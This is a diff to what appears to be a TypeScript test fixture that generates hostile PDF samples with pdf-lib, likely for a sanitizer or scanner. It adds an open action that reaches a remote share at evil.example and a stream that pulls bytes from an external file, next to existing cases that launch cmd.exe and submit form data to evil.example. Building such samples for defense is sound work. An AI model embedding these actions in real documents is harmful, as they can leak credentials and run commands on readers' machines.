@@ -34,6 +34,13 @@ export const activePdfs = {
     const kind = document.context.register(PDFName.of('Launch'));
     document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: kind, F: PDFString.of('cmd.exe') }));
   },
+  'a document on a share that is opened at once': (document: PDFDocument) => {
+    const action = document.context.obj({ S: 'GoToR', F: PDFString.of('\\\\evil.example\\share'), D: [0] });
+    document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
+  },
+  'a stream whose bytes are in another file': (document: PDFDocument) => {
+    document.context.register(document.context.stream('', { F: PDFString.of('other.bin') }));
+  },
   'an annotation that sends a form': (document: PDFDocument) => {
     const action = document.context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') });
     const annotation = document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action });
